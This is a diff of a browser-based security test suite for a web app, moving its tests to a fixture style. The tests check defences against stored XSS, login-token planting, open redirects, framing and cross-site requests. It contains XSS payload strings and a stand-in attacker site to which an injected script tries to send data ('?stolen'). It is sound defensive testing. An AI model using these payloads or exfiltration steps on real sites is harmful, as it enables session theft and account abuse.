@@ -2,9 +2,8 @@
 // attacks are in server/src/testing/attacker/ and server/tests/attacker.rs.
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
-import { after, before, test } from "node:test";
-import { launchChromium, until } from "./browser.mjs";
-import { signIn, startDemo } from "./demoServer.mjs";
+import { signIn } from "./demoServer.mjs";
+import { expect, test, useDemo } from "./fixtures.mjs";
 import { drawAllCards, newcomer, open, person } from "./people.mjs";
 
 /** Marks every page that it gets to run in, by each way that a text may become a script. */
@@ -13,23 +12,18 @@ const HACK = `"'><script>${MARK}</script><img src=x onerror="${MARK}"><svg onloa
 /** The same for fields with little room. */
 const SHORT = `<img src=x onerror=${MARK}>`;
 
-let browser;
-let demo;
+const demo = useDemo();
 let evil;
 let nova;
 let ada;
 
-before(async () => {
-  demo = await startDemo();
-  browser = await launchChromium();
+test.beforeAll(async () => {
   nova = await person(demo.url, "nova");
   ada = await newcomer(nova, "attacked_ada", 3);
   evil = await startSite();
 });
 
-after(async () => {
-  await browser?.close();
-  await demo?.stop();
+test.afterAll(async () => {
   evil?.server.close();
 });
 
@@ -45,7 +39,7 @@ async function startSite() {
 }
 
 /** A window that notes what must not happen: a script of the attacker's, a dialog, something that the policy stopped. */
-async function watched(options) {
+async function watched(browser, options) {
   const window = await open(browser, { calm: true, ...options });
   const alarms = [];
   window.page.on("dialog", (dialog) => {
@@ -78,7 +72,7 @@ async function tries(token, method, path, body) {
   return { status: answer.status, body: await answer.json().catch(() => null) };
 }
 
-test("user input is shown as text everywhere", async (t) => {
+test("user input is shown as text everywhere", async ({ browser }) => {
   // Names come from the provider, and the stand-in takes only letters and digits, as Twitch does.
   const mallory = await person(demo.url, "mallory");
   await mallory.asks("POST", "/api/packs/open", {});
@@ -128,7 +122,7 @@ test("user input is shown as text everywhere", async (t) => {
     assert.ok(accepted.includes(what), `${what} was not stored, so nothing was tried: ${accepted}`);
   }
 
-  t.diagnostic(`stored: ${accepted}`);
+  console.log(`stored: ${accepted}`);
   const name = encodeURIComponent(mallory.name);
   const card = `/card/${theirs[0]._id}`;
   const pages = {
@@ -140,7 +134,7 @@ test("user input is shown as text everywhere", async (t) => {
   };
   const tokens = { visitor: null, collector: ada.token, admin: nova.token };
   for (const [who, addresses] of Object.entries(pages)) {
-    const window = await watched({ token: tokens[who] });
+    const window = await watched(browser, { token: tokens[who] });
     for (const address of addresses) {
       await window.page.goto(demo.url + address, { waitUntil: "networkidle" });
       if (address === card || address.startsWith("/collection")) await drawAllCards(window.page).catch(() => {});
@@ -162,10 +156,10 @@ test("user input is shown as text everywhere", async (t) => {
   }
 });
 
-test("a token in a link signs no user in without asking", async () => {
+test("a token in a link signs no user in without asking", async ({ browser }) => {
   const planted = await signIn(demo.url, "mallory");
   for (const token of [null, ada.token]) {
-    const { page, close } = await watched({ token });
+    const { page, close } = await watched(browser, { token });
     await page.goto(`${demo.url}/login?token=${planted}`);
     // A signed-in user stays signed in as themselves; a visitor is asked.
     if (token === null) await page.getByRole("button", { name: /Continue as mallory\?/i }).waitFor();
@@ -182,9 +176,9 @@ test("a token in a link signs no user in without asking", async () => {
   }
 });
 
-test("a sign-in does not redirect to another site", async () => {
+test("a sign-in does not redirect to another site", async ({ browser }) => {
   for (const way of ["redirect", "next", "returnTo", "redirect_uri", "login_hint"]) {
-    const { page, context, close } = await watched({});
+    const { page, context, close } = await watched(browser, {});
     const left = [];
     page.on("framenavigated", (frame) => left.push(new URL(frame.url()).origin));
     await page.goto(`${demo.url}/login?${way}=${encodeURIComponent(`${evil.url}/`)}`);
@@ -202,8 +196,8 @@ test("a sign-in does not redirect to another site", async () => {
   }
 });
 
-test("another site shows no page of this one in a frame but the overlay", async () => {
-  const { page, close } = await watched({ token: ada.token });
+test("another site shows no page of this one in a frame but the overlay", async ({ browser }) => {
+  const { page } = await watched(browser, { token: ada.token });
   const framed = async (path) => {
     evil.pages.set("/frame", `<iframe id="f" src="${demo.url}${path}" width="900" height="700"></iframe>`);
     await page.goto(`${evil.url}/frame`, { waitUntil: "load" });
@@ -215,11 +209,10 @@ test("another site shows no page of this one in a frame but the overlay", async 
   }
   const path = `/stream-overlay/${nova.id}`;
   assert.equal(await framed(path), demo.url + path);
-  await close();
 });
 
-test("another site's page does nothing in a visitor's name", async () => {
-  const { page, close } = await watched({ token: ada.token });
+test("another site's page does nothing in a visitor's name", async ({ browser }) => {
+  const { page } = await watched(browser, { token: ada.token });
   const before = await ada.asks("GET", "/api/users/me");
   evil.pages.set("/", "<h1>Free cards</h1>");
   await page.goto(`${evil.url}/`);
@@ -256,11 +249,10 @@ test("another site's page does nothing in a visitor's name", async () => {
   }
   const now = await ada.asks("GET", "/api/users/me");
   assert.deepEqual([now.packs, now.openedPacks], [before.packs, before.openedPacks]);
-  await close();
 });
 
-test("a script that got into a page does not run", async () => {
-  const { page, close } = await watched({});
+test("a script that got into a page does not run", async ({ browser }) => {
+  const { page } = await watched(browser, {});
   await page.goto(`${demo.url}/login`, { waitUntil: "networkidle" });
   await page.evaluate((mark) => {
     const script = document.createElement("script");
@@ -279,10 +271,9 @@ test("a script that got into a page does not run", async () => {
   const watching = setInterval(async () => {
     seen = await violated().catch(() => seen);
   }, 50);
-  await until(() => seen.startsWith("script-src"));
+  await expect.poll(() => seen).toMatch(/^script-src/);
   clearInterval(watching);
   assert.equal(await page.evaluate(() => window.hacked ?? null), null);
   const sent = await page.evaluate(async (url) => fetch(`${url}/?stolen`, { mode: "no-cors" }).then(() => "sent").catch(() => "stopped"), evil.url);
   assert.equal(sent, "stopped", "what it would have found stays here");
-  await close();
 });
